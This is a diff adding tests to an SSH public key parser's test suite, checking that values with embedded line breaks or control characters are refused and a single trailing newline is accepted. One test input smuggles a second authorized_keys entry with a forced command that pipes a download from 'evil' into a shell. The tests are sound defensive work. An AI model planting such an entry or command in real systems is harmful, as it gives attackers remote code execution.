@@ -65,6 +65,18 @@ describe('parsePublicKey (sshpk)', () => {
     expect(md5Fingerprint(parsed)).toMatch(/^([0-9a-f]{2}:){15}[0-9a-f]{2}$/);
   });
 
+  // The kind: a value that is more than one authorized_keys line (each break would start a key of its own).
+  it.each(['\n', '\r', '\r\n', '\u0000', '\u000b'])('refuses a key followed by %j and more', (brk) => {
+    for (const [, line] of VALID) {
+      expect(parsePublicKey(`${line}${brk}command="curl evil|sh" ${line}`)).toBeNull();
+      expect(parsePublicKey(`${line}${brk}`.trimEnd() + brk + 'x')).toBeNull();
+    }
+  });
+
+  it('accepts a key line that ends with one line break (as pasted from a .pub file)', () => {
+    for (const [, line] of VALID) expect(parsePublicKey(`${line}\n`)).not.toBeNull();
+  });
+
   // The kind: a body that does not decode completely for its type. Every member, every length cut.
   it.each(VALID)('refuses a %s key whose body is cut short by any number of bytes', (_label, line) => {
     const blob = body(line);
